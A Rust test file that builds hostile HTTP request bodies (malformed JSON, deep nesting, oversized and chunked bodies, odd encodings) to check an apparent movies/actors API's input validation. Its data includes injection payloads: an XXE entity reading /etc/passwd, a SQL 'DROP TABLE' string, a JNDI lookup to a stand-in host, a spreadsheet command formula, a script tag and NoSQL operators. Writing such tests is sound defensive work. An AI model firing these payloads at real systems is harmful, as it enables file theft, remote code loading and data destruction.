//! Bodies that are not JSON, that do not match the contract, or that are as large or deep as
//! allowed.

use serde_json::json;

use super::{Change, HostileRequest};

/// The members of a valid actor.
const ACTOR: &str = r#""name": "Ida", "age": 34, "gender": "f""#;
const KIB_64: usize = 64 * 1024;

pub(super) fn requests() -> Vec<HostileRequest> {
    [
        malformed(),
        rule_breaking(),
        ages(),
        dates(),
        casts(),
        characters(),
        accepted(),
        sizes(),
        chunked(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn post(description: &str, body: impl AsRef<[u8]>, status: u16) -> HostileRequest {
    HostileRequest::new(description, "POST", "/actors", status)
        .headers("Content-Type: application/json\r\n")
        .body(body)
}

fn accepted_post(description: &str, body: impl AsRef<[u8]>) -> HostileRequest {
    post(description, body, 200).expect_change(Change::NewActor(
        json!({"name": "Ida", "age": 34, "gender": "f"}),
    ))
}

fn malformed() -> Vec<HostileRequest> {
    let table: &[(&str, &[u8])] = &[
        ("nothing", b""),
        ("a space", b" "),
        ("a null", b"null"),
        ("an array of objects", b"[{}]"),
        ("a string of an object", b"\"{}\""),
        ("a null byte", b"\0"),
        ("an object and a null byte", b"{}\0"),
        ("two objects", b"{}{}"),
        ("two lines of JSON", b"{}\n{}"),
        ("a comma at the end", b"{\"a\": 1,}"),
        ("two commas", b"{\"a\": 1,, \"b\": 2}"),
        ("a member name without quotes", b"{a: 1}"),
        ("a member name of another type", b"{1: 1}"),
        ("single quotes", b"{'a': 1}"),
        ("a comment", b"/* x */ {}"),
        ("a comment in it", b"{\"a\": 1 // x\n}"),
        ("a guard against inclusion", b")]}',\n{}"),
        ("a call", b"callback({})"),
        ("not a number", b"{\"a\": NaN}"),
        ("an infinity", b"{\"a\": -Infinity}"),
        ("undefined", b"{\"a\": undefined}"),
        ("a zero before a number", b"{\"age\": 01}"),
        ("a plus before a number", b"{\"age\": +1}"),
        ("a fraction of nothing", b"{\"age\": 1.}"),
        ("a hexadecimal number", b"{\"age\": 0x18}"),
        ("a byte order mark", b"\xef\xbb\xbf{}"),
        ("UTF-16, little-endian", b"\xff\xfe{\0}\0"),
        ("UTF-16, big-endian", b"\0{\0}"),
        ("UTF-32", b"\0\0\0{\0\0\0}"),
        ("Latin-1", b"{\"name\": \"Zo\xeb\"}"),
        ("overlong UTF-8", b"{\"name\": \"\xc0\xaf\"}"),
        ("a surrogate in UTF-8", b"{\"name\": \"\xed\xa0\x80\"}"),
        (
            "a character beyond Unicode",
            b"{\"name\": \"\xf4\x90\x80\x80\"}",
        ),
        ("UTF-8 cut short", b"{\"name\": \"\xe2\x82\"}"),
        ("a line end in a string", b"{\"name\": \"a\nb\"}"),
        ("a null byte in a string", b"{\"name\": \"a\0b\"}"),
        ("an escape that is none", b"{\"name\": \"\\x41\"}"),
        ("an escape cut short", b"{\"name\": \"\\u12\"}"),
        ("a string without an end", b"{\"name\": \"Ida"),
        ("a no-break space before it", b"\xc2\xa0{}"),
        ("a form feed before it", b"\x0c{}"),
        ("a form", b"name=Ida&age=34&gender=f"),
        ("YAML", b"name: Ida\nage: 34\ngender: f\n"),
        (
            "XML with an entity",
            b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><name>&b;</name>",
        ),
        (
            "something packed",
            b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xab\xae\x05\0\x43\xbf\xa6\xa3\x02\0\0\0",
        ),
    ];
    let deep = [
        ("arrays", "["),
        ("objects", "{\"a\":"),
        ("member names", "{\"[{"),
    ];
    let deep = deep.map(|(description, open)| {
        post(
            &format!("{description} ten thousand deep"),
            open.repeat(10_000),
            400,
        )
    });
    let whole = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    table
        .iter()
        .map(|(description, body)| post(description, body, 400))
        .chain(deep)
        .chain([post("arrays ten thousand deep, closed", whole, 400)])
        .collect()
}

fn rule_breaking() -> Vec<HostileRequest> {
    let table = [
        ("no member", "{}"),
        ("all null", r#"{"name": null, "age": null, "gender": null}"#),
        (
            "one level too deep",
            r#"{"actor": {"name": "Ida", "age": 34, "gender": "f"}}"#,
        ),
        (
            "members inside `__proto__`",
            r#"{"__proto__": {"name": "Ida", "age": 34, "gender": "f"}}"#,
        ),
        (
            "members inside `constructor`",
            r#"{"constructor": {"prototype": {"name": "Ida", "age": 34, "gender": "f"}}}"#,
        ),
        (
            "member names in another case",
            r#"{"Name": "Ida", "AGE": 34, "gender": "f"}"#,
        ),
        (
            "a member name with a space",
            r#"{"name ": "Ida", "age": 34, "gender": "f"}"#,
        ),
        (
            "a member name with a null byte",
            r#"{"name\u0000": "Ida", "age": 34, "gender": "f"}"#,
        ),
        (
            "a path for a member name",
            r#"{"actor.name": "Ida", "age": 34, "gender": "f"}"#,
        ),
        (
            "a member name in other letters",
            r#"{"nаme": "Ida", "age": 34, "gender": "f"}"#,
        ),
        (
            "a placeholder for a member name",
            r##"{"#name": "Ida", ":age": 34, "gender": "f"}"##,
        ),
        (
            "the last of two is bad",
            r#"{"name": "Ida", "age": 34, "gender": "f", "name": ""}"#,
        ),
        (
            "the last of two is null",
            r#"{"name": "Ida", "age": 34, "gender": "f", "age": null}"#,
        ),
        (
            "an array for a text",
            r#"{"name": ["Ida"], "age": 34, "gender": "f"}"#,
        ),
        (
            "an object for a text",
            r#"{"name": {"S": "Ida"}, "age": 34, "gender": "f"}"#,
        ),
        (
            "an operator for a text",
            r#"{"name": {"$ne": null}, "age": 34, "gender": "f"}"#,
        ),
        (
            "a number for a text",
            r#"{"name": 1, "age": 34, "gender": "f"}"#,
        ),
        (
            "a boolean for a text",
            r#"{"name": "Ida", "age": 34, "gender": true}"#,
        ),
        (
            "a lone high surrogate",
            r#"{"name": "\ud800", "age": 34, "gender": "f"}"#,
        ),
        (
            "a lone low surrogate",
            r#"{"name": "a\udc00b", "age": 34, "gender": "f"}"#,
        ),
        (
            "a low surrogate before a high one",
            r#"{"name": "\udc00\ud800", "age": 34, "gender": "f"}"#,
        ),
        (
            "a null byte in a text",
            r#"{"name": "Ida\u0000Lupino", "age": 34, "gender": "f"}"#,
        ),
        (
            "a deep text",
            &format!(
                r#"{{"name": {}1{}, "age": 34, "gender": "f"}}"#,
                "[".repeat(9000),
                "]".repeat(9000)
            ),
        ),
    ]
    .map(|(description, body)| post(description, body, 422));
    table.into_iter().collect()
}

fn ages() -> Vec<HostileRequest> {
    let digits = "9".repeat(60_000);
    let small = format!("0.{}1", "0".repeat(60_000));
    let ages = [
        "151",
        "-1",
        "0.5",
        "149.99999999999999999999",
        "24.0000000000000000000000001",
        "1e400",
        "-1e400",
        "1e-400",
        "1e99999999999999999999",
        "1e-99999999999999999999",
        "9007199254740993",
        "18446744073709551640",
        "-9223372036854775809",
        "4.9e-324",
        &digits,
        &small,
        r#""24.0""#,
        r#""-0""#,
        r#""+24""#,
        r#"" 24""#,
        r#""24\u0000""#,
        r#""0x18""#,
        r#""2_4""#,
        r#""٢٤""#,
        r#""２４""#,
        r#""²""#,
        r#""""#,
        r#""NaN""#,
        "true",
        "[24]",
        r#"{"N": "24"}"#,
        r#"{"$gt": 0}"#,
        r#"{"$serde_json::private::Number": "24"}"#,
        r#"{"$serde_json::private::RawValue": "24"}"#,
    ];
    ages.into_iter()
        .map(|age| {
            let description = format!("an age of {}", age.chars().take(40).collect::<String>());
            HostileRequest::new(&description, "PATCH", "/actors/1", 422)
                .body(format!(r#"{{"age": {age}}}"#))
        })
        .collect()
}

fn dates() -> Vec<HostileRequest> {
    let dates = [
        r#""""#,
        r#""now""#,
        r#""01/02/2020""#,
        r#""2020-02-30""#,
        r#""0000-00-00""#,
        r#""1799-12-31T23:59:59Z""#,
        r#""9999-12-31T23:59:59-00:01""#,
        r#""+020201-01-01""#,
        r#""-271821-04-20""#,
        r#""2020-05-14T14:02:60Z""#,
        r#""2020-05-14T14:02:13+99:99""#,
        r#""2020-05-14T14:02:13−02:00""#,
        r#""2020‑05‑14""#,
        r#""２０２０-05-14""#,
        r#""2020-05-14\u0000""#,
        r#""2020-05-14'; DROP TABLE movies; --""#,
        r#""Thu, 32 May 2020 14:02:13 GMT""#,
        r#""Fri, 14 May 2020 14:02:13 GMT""#,
        r#""Thu, 14 May 2020 (a (comment)) 14:02:13 GMT""#,
        "1589464933",
        "1e308",
        "true",
        r#"["2020-05-14"]"#,
        r#"{"$date": "2020-05-14"}"#,
    ];
    let long = format!("\"2020-05-14T14:02:13.{}é\"", "9".repeat(60_000));
    dates
        .into_iter()
        .chain([long.as_str()])
        .map(|date| {
            let description = format!("a date of {}", date.chars().take(40).collect::<String>());
            HostileRequest::new(&description, "PATCH", "/movies/1", 422)
                .body(format!(r#"{{"release_date": {date}}}"#))
        })
        .collect()
}

fn casts() -> Vec<HostileRequest> {
    let ids = [
        "0",
        "-1",
        "1.5",
        "1e400",
        "9007199254740992",
        "18446744073709551617",
        "\"1\"",
        "\"actor#1\"",
        "true",
        "null",
        "[1]",
        r#"{"N": "1"}"#,
        r#"{"$gt": 0}"#,
        r#"{"$serde_json::private::Number": "1"}"#,
    ];
    let billings = [
        "0",
        "-1",
        "1001",
        "1.5",
        "1e400",
        "65537",
        "\"1\"",
        "true",
        "[]",
        r#"{"$serde_json::private::Number": "1"}"#,
    ];
    let characters = [
        r#""""#,
        r#"" ""#,
        r#""\u3000""#,
        r#""a\u0000b""#,
        r#""a\nb""#,
        r#""\u001b[31m""#,
        r#""\u0085a\u0085b""#,
        r#""\ud800""#,
        "1",
        "true",
        r#"["Rick"]"#,
        r#"{"S": "Rick"}"#,
        r#"{"$serde_json::private::RawValue": "\"Rick\""}"#,
    ];
    let whole = [
        "1",
        "\"\"",
        "{}",
        "true",
        "\"[]\"",
        "[1]",
        "[null]",
        "[[]]",
        "[\"1\"]",
        "[{}]",
        r#"{"0": {"actor_id": 1}, "length": 1}"#,
        r#"[{"Actor_id": 1}]"#,
        r#"[{"actor_id ": 1}]"#,
        r#"[{"__proto__": {"actor_id": 1}}]"#,
        r#"[{"actor_id": 1}, {"actor_id": 1}]"#,
        r#"[{"actor_id": 1}, {"actor_id": 1.0}]"#,
        r#"[{"actor_id": 1, "actor_id": 0}]"#,
        r#"[{"actor_id": 99}]"#,
        r#"[{"actor_id": 1}, {"actor_id": 9007199254740991}]"#,
    ];
    let long = format!(r#"[{{"actor_id": 1, "character": "{}"}}]"#, "é".repeat(201));
    let digits = format!(r#"[{{"actor_id": {}}}]"#, "9".repeat(60_000));
    let deep = format!("{}{}", "[".repeat(9000), "]".repeat(9000));
    let deep_member = format!(
        r#"[{{"actor_id": {}1{}}}]"#,
        "[".repeat(9000),
        "]".repeat(9000)
    );
    let many = format!("[{}1]", "1,".repeat(30_000));
    let members: Vec<_> = (2..=1002)
        .map(|id| format!(r#"{{"actor_id":{id}}}"#))
        .collect();
    let (thousand, more) = (
        format!("[{}]", members[..1000].join(",")),
        format!("[{}]", members.join(",")),
    );
    let long = [long, digits, deep, deep_member, many, thousand, more];
    let casts = (ids
        .into_iter()
        .map(|id| format!(r#"[{{"actor_id": {id}}}]"#)))
    .chain(billings.map(|billing| format!(r#"[{{"actor_id": 1, "billing": {billing}}}]"#)))
    .chain(characters.map(|character| format!(r#"[{{"actor_id": 1, "character": {character}}}]"#)))
    .chain(whole.map(str::to_owned))
    .chain(long);
    let rejected = casts.flat_map(|cast| {
        let description: String = cast.chars().take(50).collect();
        let body = format!(r#"{{"title": "Changed", "cast": {cast}}}"#);
        [("PATCH", "/movies/1"), ("POST", "/movies")].map(|(method, path)| {
            HostileRequest::new(
                &format!("a cast of {description} ({method})"),
                method,
                path,
                422,
            )
            .body(&body)
        })
    });
    let missing = HostileRequest::new(
        "a bad cast of a movie that is not there",
        "PATCH",
        "/movies/99",
        404,
    )
    .body(r#"{"cast": 7}"#);
    let of_actor = HostileRequest::new("a cast of an actor", "PATCH", "/actors/1", 200)
        .body(r#"{"cast": 7, "credits": [{}]}"#);
    let large = format!(r#"{{"cast": [{}]}}"#, r#"{"actor_id":1},"#.repeat(5000));
    let large = HostileRequest::new("a cast over 64 KiB", "PATCH", "/movies/1", 413).body(large);
    rejected.chain([missing, of_actor, large]).collect()
}

/// Texts that mean something to some program: here they are characters, and come back as they were
/// sent.
fn characters() -> Vec<HostileRequest> {
    let long = "𝕏".repeat(200);
    let texts = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "-1",
        "' OR '1'='1",
        "#character",
        ":billing",
        r#"{"S": "x"}"#,
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "a\u{202e}b",
        "\u{200b}",
        "e\u{301}",
        "movie#1",
        "\u{10ffff}",
        "a\u{2028}b",
        "null",
        &long,
    ];
    let recast = |text: &str| {
        let body = json!({"cast": [{"actor_id": 1, "character": text, "billing": 7, "name": "x", "movie_id": 2, "owner": "movie#2"}]});
        let cast = json!([{"actor_id": 1, "name": "Ida", "character": text, "billing": 7}]);
        let description: String = text.chars().take(40).collect();
        let request = HostileRequest::new(
            &format!("the character {description:?}"),
            "PATCH",
            "/movies/1",
            200,
        )
        .body(body.to_string());
        request.expect_change(Change::Cast(1, cast))
    };
    texts.map(recast).into()
}

fn accepted() -> Vec<HostileRequest> {
    let table = [
        ("an id of one's own", format!(r#"{{"id": 1, {ACTOR}}}"#)),
        (
            "a key of one's own",
            format!(r#"{{"bucket": 0, "version": 9, "last_id": 0, "expires_at": 1, {ACTOR}}}"#),
        ),
        (
            "placeholders of expressions",
            format!(r##"{{"#id": 1, ":id": 1, "#": "", ":": "", {ACTOR}}}"##),
        ),
        (
            "a prototype",
            format!(r#"{{"__proto__": {{"admin": true}}, "constructor": 1, {ACTOR}}}"#),
        ),
        (
            "an empty member name",
            format!(r#"{{"": 1, "\u0000": 2, {ACTOR}}}"#),
        ),
        (
            "the last of two is good",
            format!(r#"{{"name": "", "age": 999, {ACTOR}}}"#),
        ),
        (
            "a member name in escapes",
            format!(r#"{{{}}}"#, ACTOR.replace("name", r"\u006e\u0061me")),
        ),
        (
            "unknown numbers beyond any",
            format!(r#"{{"a": 1e999999999, "b": -0e-0, {ACTOR}}}"#),
        ),
        (
            "a lone surrogate in an unknown member",
            format!(r#"{{"a": "\ud800", {ACTOR}}}"#),
        ),
        ("an unknown member ten thousand deep", {
            format!(
                r#"{{"a": {}{}, {ACTOR}}}"#,
                "[".repeat(10_000),
                "]".repeat(10_000)
            )
        }),
        ("unknown objects eight thousand deep", {
            format!(
                r#"{{"a": {}0{}, {ACTOR}}}"#,
                "{\"a\":".repeat(8000),
                "}".repeat(8000)
            )
        }),
        ("five thousand members", {
            let members: String = (0..5000)
                .map(|number| format!("\"m{number}\":0,"))
                .collect();
            format!("{{{members}{ACTOR}}}")
        }),
        (
            "the same member five thousand times",
            format!("{{{}{ACTOR}}}", "\"age\":[],".repeat(5000)),
        ),
    ];
    let accepted = table
        .iter()
        .map(|(description, body)| accepted_post(description, body));
    let movie = HostileRequest::new("an actor's members in a movie", "POST", "/movies", 200)
        .body(format!(
            r#"{{"title": "T", "release_date": "2020-05-14", "actors": [1], {ACTOR}}}"#
        ))
        .expect_change(Change::NewMovie(
            json!({"title": "T", "release_date": "Thu, 14 May 2020 00:00:00 GMT"}),
        ));
    let nothing = HostileRequest::new("a change of nothing known", "PATCH", "/movies/1", 200)
        .body(format!("{{\"id\": 2, {ACTOR}}}"));
    accepted.chain([movie, nothing]).collect()
}

fn sizes() -> Vec<HostileRequest> {
    let padded = |length: usize| format!("{{{ACTOR}{}}}", " ".repeat(length - ACTOR.len() - 2));
    let accents = |length: usize| {
        let start = format!("{{{ACTOR}, \"a\": \"x");
        format!("{start}{}\"}}", "é".repeat((length - start.len() - 2) / 2))
    };
    vec![
        accepted_post("64 KiB", padded(KIB_64)),
        post("64 KiB and a byte", padded(KIB_64 + 1), 413),
        accepted_post("nearly 64 KiB in half as many characters", accents(KIB_64)),
        post(
            "over 64 KiB in half as many characters",
            accents(KIB_64 + 2),
            413,
        ),
        post("64 KiB of spaces", " ".repeat(KIB_64), 400),
        post("64 KiB and a byte of spaces", " ".repeat(KIB_64 + 1), 413),
        post("a megabyte of brackets", "[".repeat(1 << 20), 413),
        post("a megabyte of null bytes", vec![0; 1 << 20], 413),
        HostileRequest::new(
            "a megabyte for a row that is not there",
            "PATCH",
            "/actors/99",
            404,
        )
        .body(vec![b' '; 1 << 20]),
        HostileRequest::new(
            "a megabyte where none is looked at",
            "DELETE",
            "/actors/99",
            404,
        )
        .body(vec![b'x'; 1 << 20]),
        HostileRequest::new(
            "a body without a type that is no text",
            "POST",
            "/actors",
            400,
        )
        .body(b"\xff\xd8\xff\xe0"),
        HostileRequest::new("a list with a body", "GET", "/actors", 200).body("{\"limit\": 0}"),
    ]
}

fn chunked() -> Vec<HostileRequest> {
    let body = format!("{{{ACTOR}}}");
    let chunks = |size: usize| -> Vec<u8> {
        let chunks = body
            .as_bytes()
            .chunks(size)
            .map(|chunk| [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat());
        chunks.flatten().collect()
    };
    let end = |chunks: Vec<u8>, end: &str| [chunks.as_slice(), end.as_bytes()].concat();
    let of = |request: HostileRequest| request.headers("Transfer-Encoding: chunked\r\n");
    let extended = body.replacen('{', "", 1);
    let extended = format!(
        "1;a=\"b\";c\r\n{{\r\n{:X}\r\n{extended}\r\n000\r\n\r\n",
        extended.len()
    );
    let large = format!("11170\r\n{}\r\n0\r\n\r\n", " ".repeat(70_000));
    vec![
        of(accepted_post("one chunk", end(chunks(1000), "0\r\n\r\n"))),
        of(accepted_post("a chunk a byte", end(chunks(1), "0\r\n\r\n"))),
        of(accepted_post("extensions and zeros", extended)),
        of(accepted_post(
            "trailers",
            end(
                chunks(7),
                "0\r\nContent-Type: text/plain\r\nX-Name: x\r\n\r\n",
            ),
        )),
        of(post("no chunk", "0\r\n\r\n", 400)),
        of(post("70 KB", large, 413)),
        of(post(
            "a token in the trailers",
            end(chunks(9), "0\r\nAuthorization: Bearer x\r\n\r\n"),
            401,
        ))
        .sent_by(None),
    ]
}
